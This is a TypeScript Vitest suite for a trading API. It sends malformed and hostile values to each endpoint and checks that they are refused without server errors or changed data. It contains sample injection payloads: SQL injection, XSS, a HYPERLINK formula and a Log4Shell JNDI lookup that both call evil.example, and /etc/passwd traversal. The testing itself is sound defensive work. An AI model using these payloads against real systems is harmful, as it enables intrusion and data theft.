import { type Caller, matrix } from '@nairadesk/contract/access';
import { alertDefaults } from '@nairadesk/contract/alerts';
import type { Endpoint } from '@nairadesk/contract/endpoint';
import { beforeAll, describe, expect, it } from 'vitest';
import * as z from 'zod/mini';
import { routes } from '../../src/app.ts';
import { makeBrowser } from '../push-service.ts';
import { openTrade } from '../trade.ts';
import { type Person, useWorld } from '../world.ts';

const world = useWorld({ rateLimit: false });
const endpoints = routes.map(({ endpoint }) => endpoint);
const nameOf = ({ method, path }: Endpoint) => `${method} ${path}`;
const asRows = (chosen: Endpoint[]) => chosen.map((endpoint) => [nameOf(endpoint), endpoint] as const);
let trade: Awaited<ReturnType<typeof openTrade>>;
let people: Partial<Record<Caller, Person>>;

beforeAll(async () => {
  trade = await openTrade(world);
  people = { user: trade.ada, admin: await world.admin(), 'super-admin': trade.boss };
  const passwordHash = await world.services.passwords.hash('a long enough one');
  await world.database.pool.query('update users set password_hash = $1', [passwordHash]);
});

type Json = Record<string, unknown>;

/** A value to the letter: what JSON.stringify would not write. */
class Raw {
  readonly text: string;
  constructor(text: string) {
    this.text = text;
  }
}

const long = 'a'.repeat(20_000);
/** Right for no field at all. */
const neverRight: [string, unknown][] = [
  ['NUL', 'a\0b'],
  ['an escape sequence', 'a\u001b[31mb'],
  ['a lone surrogate', 'a\ud800b'],
  ['an object', { $ne: null }],
  ['a list in a list', [['a']]],
  ['20,000 letters', long],
  ['2^53 + 1', new Raw('9007199254740993')],
  ['a number without end', new Raw('1e400')],
  ['a number in a list', [1]],
];
/** Wrong wherever one line is asked for. */
const wrongInOneLine: [string, unknown][] = [
  ['a header of a mail', 'a@example.com\r\nBcc: b@example.com'],
  ['a line separator', 'a\u2028b'],
  ['a turned direction', 'a\u202egpj.exe'],
  ['a mark from right to left', 'a\u200fb'],
  ['an Arabic letter mark', 'a\u061cb'],
  ['nothing that can be seen', '\u200b\u200d\u2060'],
];
const notAnAddress = [
  ...['a b@c.ng', 'a@b', '"a"@b.ng', 'a@b.ng,c@d.ng', 'Ada <a@b.ng>', '<a@b.ng>', 'a@b..ng', '@b.ng'],
  ...['a@[127.0.0.1]', 'a\u200b@b.ng', 'a\u00ad@b.ng', 'a＠b.ng', 'a@b.ng\u200b'],
].map((value) => [value, value] as [string, unknown]);
const notANumber = [
  ...[
    '１２３４５６７８９０',
    '١٢٣٤٥٦٧٨٩٠',
    '1e3',
    '-1',
    '0x10',
    '1,000',
    '1_000',
    'NaN',
    'Infinity',
    '1.2.3',
    '1'.repeat(400),
  ],
].map((value) => [value, value] as [string, unknown]);
const asNumber = (text: string): [string, unknown] => [`the number ${text}`, new Raw(text)];
const notMoney = ['-1', '1e21'].map(asNumber);
/** An order's amount and quantity are rounded instead: clients compute them in floating point. */
const tooFine = ['1e-7', '0.1234567890123456789'].map(asNumber);
const roundedFields = ['amount', 'quantity'];
/** Text like any other, to us: what another program would take for more. */
const onlyText = [
  "' or 1=1 --",
  '"><script>alert(1)</script>',
  '=HYPERLINK("https://evil.example")',
  `\${jndi:ldap://evil.example} {{7*7}} %s %n`,
  '../../../../etc/passwd',
  '__proto__',
  'Z̸̢̛͎a̴l̷g̶o̸ 😀 \u200d أدا',
];

const lines = [
  'message',
  'text',
  'words',
  'response',
  'description',
  'reference',
  'note',
  'reason',
  'strangerReason',
  'codesReason',
  'flagReason',
  'repeatReason',
  'deliveryCode',
  'memo',
];
const money = [
  'amount',
  'quantity',
  'minAmount',
  'maxAmount',
  'dailyCap',
  'buyingPrice',
  'sellingPrice',
  'tolerance',
  'referenceFrom',
  'approvalFrom',
];

function wrongFor(field: string): [string, unknown][] {
  const name = field.split('.').at(-1) ?? '';
  const secret = /password|token|code$/i.test(name);
  return [
    ...neverRight,
    ...(lines.includes(name) || secret ? [] : wrongInOneLine),
    ...(/email/i.test(name) ? notAnAddress : []),
    ...(money.includes(name) ? [...notANumber, ...notMoney] : []),
    ...(money.includes(name) && !roundedFields.includes(name) ? tooFine : []),
    ...(name === 'accountNumber' ? notANumber : []),
  ];
}

/** Something right for a field of that name, so that nothing else can be the reason of a refusal. */
function rightFor(name: string): unknown {
  const right: Json = {
    ...trade.buy,
    orderId: crypto.randomUUID(),
    status: 'successful',
    role: 'user',
    suspended: false,
    frozen: false,
    pinned: false,
    email: `${crypto.randomUUID()}@example.com`,
    phone: '08031234567',
    country: 'Nigeria',
    cardCountry: 'US',
    assetType: 'cryptocurrency',
    minAmount: '1000',
    maxAmount: '2000000',
    dailyCap: '2000000',
    on: false,
    tolerance: '60',
    lateMinutes: 6,
    strangers: 'warn',
    referenceFrom: '100000',
    buyingPrice: '1600',
    sellingPrice: '1500',
    accountNumber: '0123456789',
    direction: 'in',
    kind: 'reversal',
    form: 'physical',
    receipt: 'cash',
    from: '25',
    to: '100',
    rate: '1150',
    minimum: '25',
    maximum: '500',
    minutes: 10,
    faceValue: '100',
    verdict: 'changed',
    photoIds: [],
    keepsProof: false,
    id: crypto.randomUUID(),
    side: 'front',
    bytes: 1_000,
    sha256: 'ab'.repeat(32),
    number: 0,
    charge: 'fees',
    takesBack: crypto.randomUUID(),
    arrivedAt: '2026-11-22T12:00:00Z',
    outcome: 'settled',
    hours: 24,
    remember: false,
    noMemo: true,
    likely: true,
    moneyCame: true,
    confirmedLoss: true,
    confirmedOther: true,
    confirmed: true,
    version: 1,
    priceVersion: 1,
    priceJumpPercent: 12,
    approvalFrom: '2000000',
    approveAccounts: true,
    approveReversals: true,
    cardPhotoDays: 90,
    cardComplaintHours: 48,
    change: { kind: 'complete-order', orderId: crypto.randomUUID() },
    deliveryEmail: 'ada@example.com',
    walletAddress: 'bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4',
    ...makeBrowser('https://fcm.googleapis.com').subscription,
    ...alertDefaults,
  };
  return name in right ? right[name] : 'Some text of theirs';
}

interface Schema {
  properties?: Record<string, Schema>;
  items?: Schema;
}

function schemaOf(schema: Endpoint['body']): Schema {
  return schema ? (z.toJSONSchema(schema, { io: 'input', unrepresentable: 'any' }) as Schema) : {};
}

/** A payload that is right, and the dotted path of every field in it. */
function sampleOf(endpoint: Endpoint): { body: Json; fields: string[] } {
  const body: Json = {};
  const fields: string[] = [];
  const schema = schemaOf(endpoint.body);
  const isOfCards = /\/(card-rates|orders\/cards)$/.test(endpoint.path);
  for (const [name, { items }] of Object.entries(schema.properties ?? {})) {
    // The id of a wallet's row is ignored, whatever it is; a price's is that of an asset, which no sample has.
    const columns = Object.keys(items?.properties ?? {}).filter((column) => column !== 'id' || isOfCards);
    if (columns.length > 0) {
      const row = columns.map((column) => [
        column,
        rightFor(isOfCards && column === 'country' ? 'cardCountry' : column),
      ]);
      body[name] = [Object.fromEntries(row)];
      fields.push(...columns.map((column) => `${name}.0.${column}`));
    } else {
      body[name] = items ? ['Bitcoin'] : rightFor(name);
      fields.push(name);
    }
  }
  if (endpoint.path === '/orders' && endpoint.method === 'PATCH') body.status = 'completed';
  if (endpoint.path === '/offers') body.kind = 'less';
  if (endpoint.path.endsWith('/complaint')) body.reason = 'used';
  // Of a refused card alone.
  if (body.verdict === 'changed') delete body.reason;
  // About one of the two.
  if (endpoint.path === '/notes') delete body.userId;
  return { body, fields };
}

/** What the query of a call with a payload has to hold. */
function queryFor({ query }: Endpoint): string {
  return 'token' in (schemaOf(query).properties ?? {}) ? '?token=made-up' : '';
}

function withField(body: Json, field: string, value: unknown): string {
  const copy = structuredClone(body);
  const [name = '', row, column = ''] = field.split('.');
  const given = value instanceof Raw ? '\u0007raw' : value;
  if (row === undefined) copy[name] = given;
  else (copy[name] as Json[])[0] = { ...(copy[name] as Json[])[0], [column]: given };
  const text = JSON.stringify(copy);
  return value instanceof Raw ? text.replace('"\\u0007raw"', value.text) : text;
}

function tokenFor({ access }: Endpoint): string | null {
  const row: Partial<Record<Caller, string>> = matrix[access];
  if (row.visitor === 'yes') return null;
  const caller = (['user', 'admin', 'super-admin'] as const).find((one) => row[one] === 'yes');
  return (caller && people[caller]?.token) ?? null;
}

function send(endpoint: Endpoint, body: string, { id = crypto.randomUUID() as string, query = '' } = {}) {
  const request = {
    method: endpoint.method,
    path: endpoint.path.replace('{id}', id) + query,
    token: tokenFor(endpoint),
  };
  if (!endpoint.body) return world.send(request);
  if (!endpoint.multipart)
    return world.send({ ...request, headers: { 'content-type': 'application/json' }, body });
  const form = new FormData();
  form.set('json', body);
  return world.send({ ...request, body: form });
}

/** All that is stored, but what goes by itself and who tried how often; a refused login is on record. */
async function everything(endpoint: Endpoint): Promise<string> {
  const apart = [
    'throttles',
    'sessions',
    'event_queue',
    'readiness',
    ...(endpoint.path === '/auth/login' ? ['audit_log'] : []),
  ];
  const { rows: tables } = await world.database.pool.query<{ name: string }>(
    "select relname as name from pg_stat_user_tables where relname <> all($1) and schemaname = 'public' order by 1",
    [apart],
  );
  const sums = tables.map(
    ({ name }) => `select '${name}', md5(string_agg(t::text, '|' order by t::text)) from "${name}" t`,
  );
  // Sorted: PostgreSQL may read many tables side by side.
  const all = `${sums.join(' union all ')} order by 1`;
  return JSON.stringify((await world.database.pool.query(all)).rows);
}

describe.each(asRows(endpoints.filter(({ body }) => body)))('%s', (_name, endpoint) => {
  it('refuses an invalid value in any field, names the field and changes nothing', async () => {
    const { body, fields } = sampleOf(endpoint);
    const before = await everything(endpoint);
    const tries = fields.flatMap((field) => wrongFor(field).map((wrong) => [field, ...wrong] as const));
    const answers = await Promise.all(
      tries.map(async ([field, what, value]) => {
        const answer = await send(endpoint, withField(body, field, value), { query: queryFor(endpoint) });
        return { field, what: `${field}: ${what}: ${answer.text}`, ...answer };
      }),
    );
    for (const { field, what, status, failure } of answers) {
      expect(failure, what).toMatchObject({ status: 'error', error: failure?.message });
      expect(failure.message, what).toMatch(/^[A-Z].{8,}/);
      // What is looked up is simply not there, whatever it is.
      if (/(Id|token)$/.test(field) && [404, 422].includes(status)) continue;
      // A present password is compared, whatever it is; a made-up link is refused before that.
      if (
        /^(password|oldPassword)$/.test(field) &&
        ['invalid_credentials', 'link_invalid'].includes(failure.code)
      )
        continue;
      expect(status, what).toBe(422);
      expect(
        Object.keys(failure.fields ?? {}).some((key) => key.startsWith(field)),
        what,
      ).toBe(true);
    }
    expect(await everything(endpoint)).toBe(before);
  });

  it('accepts or refuses injection strings as plain text, without a server error', async () => {
    const { body, fields } = sampleOf(endpoint);
    const tries = fields.flatMap((field) => onlyText.map((value) => [field, value] as const));
    for (const answer of await Promise.all(
      tries.map(([field, value]) => send(endpoint, withField(body, field, value))),
    ))
      expect(answer.status, answer.text).toBeLessThan(500);
  });
});

describe.each(asRows(endpoints.filter(({ path }) => path.includes('{id}'))))('%s', (_name, endpoint) => {
  it('answers a malformed id with 404 and changes nothing', async () => {
    const { body } = sampleOf(endpoint);
    const before = await everything(endpoint);
    for (const id of [
      '%00',
      '%27%20or%201=1--',
      '..%2f..%2fusers',
      '__proto__',
      'a'.repeat(150),
      '%F0%9F%98%80',
      '0',
    ]) {
      const answer = await send(endpoint, JSON.stringify(body), { id });
      expect([answer.status, answer.failure.code], id).toEqual([404, 'not_found']);
    }
    expect(await everything(endpoint)).toBe(before);
  });
});

describe.each(asRows(endpoints.filter(({ query }) => query)))('%s', (_name, endpoint) => {
  it('refuses query parameters with a NUL, twice, too long or nested', async () => {
    const schema = schemaOf(endpoint.query);
    for (const name of Object.keys(schema.properties ?? {})) {
      for (const query of [
        `${name}=a%00b`,
        `${name}=a&${name}=b`,
        `${name}=${'a'.repeat(600)}`,
        `${name}[x]=1`,
      ]) {
        const answer = await send(endpoint, '', { query: `?${query}` });
        expect(answer.status, query).toBe(422);
        expect(name === 'token' || Object.keys(answer.failure.fields ?? {}).length > 0, query).toBe(true);
      }
      for (const query of [`${name}=%ff%fe`, `${name}=%ed%a0%80`, `${name}=%`, `${name}=%25%27%5f%5c`])
        expect((await send(endpoint, '', { query: `?${query}` })).status, query).toBeLessThan(500);
    }
  });
});
